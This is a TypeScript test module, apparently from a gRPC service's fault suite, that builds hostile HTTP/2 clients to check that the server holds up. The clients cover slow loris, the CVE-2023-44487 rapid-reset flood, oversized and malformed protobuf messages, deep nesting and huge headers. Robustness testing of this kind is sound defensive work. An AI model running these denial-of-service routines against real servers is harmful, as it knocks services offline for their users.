// Clients that mean harm, on bare sockets and bare HTTP/2: no gRPC library would send this.
// `node dist/test/fault/hostile.js <attack> <count> <host:port>` runs one until its stdin ends, in
// a process of its own, so that the attacker's work does not slow the honest caller down.
import { once } from 'node:events';
import {
  type ClientHttp2Session,
  type ClientHttp2Stream,
  connect as connectHttp2,
} from 'node:http2';
import { connect, type Socket } from 'node:net';

const ISSUE = '/queqiao.waybill.v1.WaybillService/IssueWaybills';
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

/** Connections that are opened and never used. */
function silentSockets(count: number): Attack {
  return (target) => openSockets(target, count, () => undefined);
}

/** Connections that send the beginning of HTTP/2 a byte at a time, for ever. */
function slowLoris(count: number): Attack {
  return (target) =>
    openSockets(target, count, (socket) => {
      let sent = 0;
      const timer = setInterval(() => socket.write(PREFACE[sent++ % PREFACE.length] ?? ''), 50);
      socket.on('close', () => clearInterval(timer));
    });
}

/** Calls whose request never ends. */
function halfOpenStreams(sessions: number, streams: number): Attack {
  return (target) =>
    openSessions(target, sessions, (session) => {
      for (let i = 0; i < streams; i++) begin(session, target).write(frame(Buffer.alloc(0), 1_000));
      return [];
    });
}

/** CVE-2023-44487: streams that are opened and cancelled in one breath. */
function rapidReset(sessions: number, streams: number): Attack {
  return (target) =>
    openSessions(target, sessions, (session) => {
      for (let i = 0; i < streams && !session.destroyed; i++) begin(session, target).close(8);
      return [];
    });
}

/** A message whose length prefix promises 4 GiB. */
function declareGiant(count: number): Attack {
  return (target) => calls(target, count, frame(Buffer.alloc(100), 0xffffffff), { isEnded: false });
}

function oversized(count: number, bytes: number): Attack {
  return (target) => calls(target, count, frame(Buffer.alloc(bytes)));
}

function hugeMetadata(count: number): Attack {
  const headers = Object.fromEntries(
    Array.from({ length: 60 }, (_, i) => [`x-filler-${i}`, 'x'.repeat(1_000)]),
  );
  return (target) => calls(target, count, frame(Buffer.alloc(0)), { headers });
}

/** Bytes that protobuf cannot read: wrong wire types, lengths beyond the end, endless varints. */
function malformed(count: number): Attack {
  const bodies = [
    '0fff',
    '0affffff7f00',
    '12ff',
    `08${'ff'.repeat(20)}`,
    '0a',
    '1b1b1b1b',
    'ffffffff',
  ];
  return (target) =>
    calls(target, count, (i) => frame(Buffer.from(bodies[i % bodies.length] ?? '', 'hex')));
}

/** Unknown groups within groups: what a reader without a limit follows until its stack ends. */
function nested(count: number): Attack {
  const depth = 10_000;
  const open = Buffer.alloc(depth, 0x7b);
  const close = Buffer.alloc(depth, 0x7c);
  return (target) => calls(target, count, frame(Buffer.concat([open, close])));
}

/** A valid request whose texts are not UTF-8. */
function notText(count: number): Attack {
  const orderRef = Buffer.from([0x0a, 4, 0xff, 0xfe, 0xc0, 0x80]);
  const parcel = Buffer.concat([Buffer.from([0x12, orderRef.length]), orderRef]);
  return (target) => calls(target, count, frame(parcel));
}

/** A message with its five bytes in front. */
function frame(body: Buffer, length = body.length): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(length, 1);
  return Buffer.concat([head, body]);
}

async function openSockets(
  { address }: Target,
  count: number,
  use: (socket: Socket) => void,
): Promise<RunningAttack> {
  const [host = '', port = ''] = address.split(':');
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(Number(port), host);
    socket.on('error', () => undefined);
    use(socket);
    return socket;
  });
  await Promise.all(sockets.map((socket) => once(socket, 'connect').catch(() => undefined)));
  return {
    answers: async () => [],
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
    },
  };
}

async function openSessions(
  { address }: Target,
  count: number,
  use: (session: ClientHttp2Session) => Promise<number>[],
): Promise<RunningAttack> {
  const sessions = Array.from({ length: count }, () => {
    const session = connectHttp2(`http://${address}`);
    session.on('error', () => undefined);
    return session;
  });
  await Promise.all(sessions.map((session) => once(session, 'connect')));
  const answers = sessions.flatMap(use);
  return {
    answers: () => Promise.all(answers),
    async [Symbol.asyncDispose]() {
      for (const session of sessions) session.destroy();
    },
  };
}

/** So many calls with this body on one connection; each answers its status. */
function calls(
  target: Target,
  count: number,
  body: Buffer | ((index: number) => Buffer),
  { headers = {}, isEnded = true }: { headers?: Record<string, string>; isEnded?: boolean } = {},
): Promise<RunningAttack> {
  return openSessions(target, 1, (session) =>
    Array.from({ length: count }, (_, i) => {
      const stream = begin(session, target, headers);
      const bytes = typeof body === 'function' ? body(i) : body;
      if (isEnded) stream.end(bytes);
      else stream.write(bytes);
      return statusOf(stream);
    }),
  );
}

function begin(
  session: ClientHttp2Session,
  { apiKey }: Target,
  headers: Record<string, string> = {},
): ClientHttp2Stream {
  const stream = session.request(
    {
      ':method': 'POST',
      ':path': ISSUE,
      'content-type': 'application/grpc',
      te: 'trailers',
      'grpc-timeout': '5S',
      authorization: `Bearer ${apiKey}`,
      ...headers,
    },
    { endStream: false },
  );
  stream.on('error', () => undefined);
  return stream;
}

/** The status of a call, in its trailers or headers; -1 if the stream was reset without one. */
function statusOf(stream: ClientHttp2Stream): Promise<number> {
  return new Promise((resolve) => {
    let status = -1;
    for (const event of ['response', 'trailers', 'close'] as const) {
      stream.on(event, (headers: Record<string, unknown> = {}) => {
        if (headers['grpc-status'] !== undefined) status = Number(headers['grpc-status']);
        if (status >= 0 || event === 'close') resolve(status);
      });
    }
    stream.resume();
  });
}

type Target = { address: string; apiKey: string };

/** Begins, and is answered once it is under way. */
type Attack = (target: Target) => Promise<RunningAttack>;

type RunningAttack = AsyncDisposable & {
  /** What the server said to those calls that wait for an answer. */
  answers(): Promise<number[]>;
};

/** What `hostile-clients.test.ts` chooses from. */
export const ATTACKS = {
  'silent-sockets': silentSockets,
  'slow-loris': slowLoris,
  // An honest client's calls have 200 places; whoever holds a key may fill most of them.
  'half-open-streams': (count) => halfOpenStreams(count, 150),
  'rapid-reset': (count) => rapidReset(count, 1_000),
  'giant-prefix': declareGiant,
  oversized: (count) => oversized(count, 6_000_000),
  'huge-metadata': hugeMetadata,
  malformed,
  nested,
  'not-text': notText,
} as const satisfies Record<string, (count: number) => Attack>;

async function main([name = '', count = '1', address = '']: string[]): Promise<void> {
  const open = ATTACKS[name as keyof typeof ATTACKS];
  const attack = await open(Number(count))({
    address,
    apiKey: process.env['QUEQIAO_API_KEY'] ?? '',
  });
  process.stdout.write('under way\n');
  process.stdout.write(`${JSON.stringify(await attack.answers())}\n`);
  process.stdin.resume();
  await once(process.stdin, 'end');
  await attack[Symbol.asyncDispose]();
}

if (process.argv[1]?.endsWith('hostile.js')) await main(process.argv.slice(2));
